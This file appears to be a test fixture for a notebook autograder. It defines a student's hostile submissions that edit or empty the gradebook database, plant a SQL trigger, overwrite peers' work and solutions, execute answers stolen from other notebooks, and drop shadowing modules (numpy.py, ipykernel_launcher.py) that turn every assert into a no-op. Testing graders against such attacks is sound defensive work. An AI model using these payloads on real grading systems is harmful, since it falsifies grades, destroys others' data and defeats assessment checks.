"""Attacks on what lies around a submission: the solutions, the gradebook, others' submissions, the files beside the notebook."""

UP = '''
import glob, os, sqlite3, json
def up(name):
    here, found = os.getcwd(), []
    while True:
        found += glob.glob(here + "/" + name) + glob.glob(here + "/*/" + name)
        if here == "/": return found or glob.glob("/tmp/pytest-of-*/*/*/" + name) + glob.glob("/tmp/pytest-of-*/*/*/class/" + name)
        here = os.path.dirname(here)
'''
ROWS = "WHERE notebook_id IN (SELECT n.id FROM submitted_notebook n JOIN submitted_assignment a ON n.assignment_id = a.id WHERE a.student_id = 'eve')"
CELLS = [
    ("gives itself points in the gradebook", UP + f'''
for path in up("gradebook.db"):
    with sqlite3.connect(path) as db: db.execute("UPDATE grade SET extra_credit = 50 {ROWS}")'''),
    ("plants a trigger in the gradebook", UP + '''
for path in up("gradebook.db"):
    with sqlite3.connect(path) as db:
        db.execute("CREATE TRIGGER gift AFTER UPDATE ON grade BEGIN UPDATE grade SET extra_credit = 50 WHERE id = NEW.id; END")'''),
    ("empties the gradebook", UP + '''
for path in up("gradebook.db"):
    with sqlite3.connect(path) as db: db.execute("DELETE FROM grade")'''),
    ("writes over the others' submissions", UP + '''
for path in up("submitted/*/attacked/attacked.ipynb"):
    if "/eve/" not in path: open(path, "w").write("%PDF-1.7")'''),
    ("writes over the solutions", UP + '''
for path in up("solutions/attacked/attacked.ipynb"): open(path, "a").write("boo")'''),
]  # fmt: skip
STEAL = UP + '''
for path in up("PLACE"):
    for cell in json.load(open(path))["cells"]:
        if cell["id"] == "NAME" and "/eve/" not in path: exec("".join(cell["source"]))'''
# these stand in the place of the answers that the learner does not know
ANSWERS = [
    (words, {name: STEAL.replace("PLACE", place).replace("NAME", name) for name in ("twice", "ratio")})
    for words, place in (
        ("takes the answers out of the solutions", "solutions/attacked/attacked.ipynb"),
        ("takes the answers of another submission", "submitted/*/attacked/attacked.ipynb"),
    )
]

CALM = '''
import ast, sys
sys.path[:] = [path for path in sys.path if path not in ("", ".") and not path.endswith("/eve/attacked")]
class Calm(ast.NodeTransformer):
    def visit_Assert(self, node): return ast.Pass()
'''
ROOT = "../../../.."  # of the course, seen from class/submitted/eve/attacked
# words, what lies beside the notebook: a text, or a link to a place; the notebook itself may be one
FILES = [
    ("has a numpy.py beside the notebook", {"numpy.py": CALM + '''
del sys.modules["numpy"]
import numpy
get_ipython().ast_transformers.append(Calm())'''}),
    ("has an ipykernel_launcher.py beside the notebook", {"ipykernel_launcher.py": CALM + '''
from ipykernel import kernelapp
from ipykernel.ipkernel import IPythonKernel
begin = IPythonKernel.start
def start(self):
    begin(self)
    self.shell.ast_transformers.append(Calm())
IPythonKernel.start = start
kernelapp.launch_new_instance()'''}),
    ("has a json.py beside the notebook that ends Python", {"json.py": "raise SystemExit"}),
    ("hands in a link to the solutions", {"attacked.ipynb": ("link", f"{ROOT}/solutions/attacked/attacked.ipynb")}),
    ("hands in a link to another's submission", {"attacked.ipynb": ("link", "../../zoe/attacked/attacked.ipynb")}),
    ("links to the gradebook beside the notebook", {"mine.db": ("link", f"{ROOT}/class/gradebook.db")}),
    ("links to an endless device beside the notebook", {"endless": ("link", "/dev/zero")}),
    ("has a pipe beside the notebook", {"pipe": ("pipe", "")}),
    ("hands in an answer and no notebook", {"attacked.ipynb": "%PDF-1.7"}),
]  # fmt: skip
# nothing that a learner wrote can be read from these, so there is no honest answer in them
NOTHING = {words for words, files in FILES if "attacked.ipynb" in files}
